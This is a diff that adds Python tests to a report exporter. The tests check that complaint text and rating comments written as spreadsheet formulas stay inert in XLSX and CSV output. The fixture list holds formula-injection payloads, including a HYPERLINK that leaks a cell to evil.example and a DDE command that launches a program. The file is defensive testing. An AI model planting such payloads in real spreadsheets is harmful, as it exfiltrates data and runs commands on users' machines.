@@ -168,3 +168,32 @@ def test_report_command_writes_every_format(tmp_path):
         assert done.returncode == 0, done.stderr
         assert out.stat().st_size > 500
     assert run("report", "--from", "2026-11-30", "--to", "2026-11-01").returncode == 2
+
+
+HOSTILE = ['=HYPERLINK("http://evil.example/?leak="&B2,"Khiếu nại")', "=cmd|' /C calc'!A0", "+1+2", "-3+4",
+           "@SUM(A1:A9)", "\t=1+1", "\r=1+1"]
+
+
+def hostile_report() -> reports.Report:
+    """Citizens' complaints and a rating comment written as formulas (R4)."""
+    feedback = [FeedbackRow(i, T(2026, 11, 4, 8), "telegram", "complaint", text) for i, text in enumerate(HOSTILE)]
+    ratings = [rating("1", "2026-11-14T10:00:00", code="C", comment="=1+1")]
+    return reports.aggregate(F, D(2026, 11, 30), FIXED_CASES, ratings, FIXED_VOTES, feedback)
+
+
+def test_text_from_outside_never_becomes_a_formula_in_the_xlsx(tmp_path):
+    path = tmp_path / "r.xlsx"
+    path.write_bytes(reports.to_xlsx(hostile_report()))
+    book = load_workbook(path)
+    cells = [c for sheet in book for row in sheet.iter_rows() for c in row if c.value is not None]
+    assert not [c.coordinate for c in cells if c.data_type == "f"]
+    texts = {c.value for c in cells}
+    # shown as typed (XML keeps no carriage return: that one comes back as a line break)
+    assert {h for h in HOSTILE if "\r" not in h} <= texts and "=1+1" in texts
+
+
+def test_text_from_outside_never_starts_a_formula_in_the_csv():
+    rows = list(csv.reader(io.StringIO(reports.to_csv(hostile_report()))))
+    cells = [cell for row in rows for cell in row]
+    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
+    assert {"'" + text for text in HOSTILE} <= set(cells)
